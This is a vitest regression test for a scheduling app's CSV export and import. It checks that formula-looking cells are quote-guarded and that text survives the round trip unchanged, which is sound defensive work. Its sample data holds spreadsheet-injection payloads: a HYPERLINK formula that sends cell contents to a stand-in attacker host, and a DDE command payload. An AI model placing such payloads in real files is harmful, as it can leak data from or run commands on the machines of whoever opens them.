// Issue 11, finding 4: the CSV export wrote cells that a spreadsheet runs as formulas
// (`=HYPERLINK("http://evil.example/?leak="&A1,…)`). They are written with a leading quote
// now, and the import reads back exactly the text that went out.
import { DateTime } from "luxon";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { prisma } from "~/utils/db.server";
import { unique, workspaceWithMember } from "../support/fixtures";
import type { Client } from "../support/http-client";

const texts = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+48 600 100 200 — call us",
  "-20% on Friday",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'tis the season",
  "'=already quoted by hand",
  "Plain text, with a comma; and a semicolon",
];

function upload(client: Client, slug: string, csv: string, intent: "check" | "import") {
  const form = new FormData();
  form.set("intent", intent);
  if (intent === "check") form.set("file", new Blob([csv], { type: "text/csv" }), "plan.csv");
  else form.set("content", csv);
  return client.request(`/w/${slug}/transfer/upload`, { method: "POST", body: form, headers: { Origin: client.baseUrl } });
}

describe("CSV export and import", () => {
  it("guard every formula-looking cell, and a plan goes out and comes back unchanged", async () => {
    const source = await workspaceWithMember("OWNER");
    const channelName = unique("Mastodon");
    const channel = await prisma.channel.create({ data: { workspaceId: source.workspace.id, network: "mastodon", name: channelName }, select: { id: true } });
    const day = DateTime.now().setZone("Europe/Warsaw").plus({ days: 4 }).startOf("day");
    for (const [i, text] of texts.entries()) {
      const at = day.set({ hour: 8 + i }).toJSDate();
      await prisma.post.create({
        data: { workspaceId: source.workspace.id, title: text.slice(0, 40), category: "news", scheduledAt: at, variants: { create: { workspaceId: source.workspace.id, channelId: channel.id, text, scheduledAt: at } } },
      });
    }
    const exported = await source.client.get(`/w/${source.workspace.slug}/export?from=${day.toISODate()}&to=${day.toISODate()}`);
    expect(exported.status).toBe(200);
    const csv = await exported.text();
    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, "")).data.flat();
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);

    // Into another workspace with a channel of the same name: the same texts, exactly.
    const target = await workspaceWithMember("OWNER");
    await prisma.channel.create({ data: { workspaceId: target.workspace.id, network: "mastodon", name: channelName } });
    const check = await upload(target.client, target.workspace.slug, csv, "check");
    expect(check.status).toBe(200);
    expect((await check.json()).problems).toEqual([]);
    expect((await upload(target.client, target.workspace.slug, csv, "import")).status).toBe(200);
    const imported = await prisma.variant.findMany({ where: { workspaceId: target.workspace.id }, select: { text: true, post: { select: { title: true } } }, orderBy: { scheduledAt: "asc" } });
    expect(imported.map((v) => v.text)).toEqual(texts);
    expect(imported.map((v) => v.post.title)).toEqual(texts.map((t) => t.slice(0, 40)));
  });
});
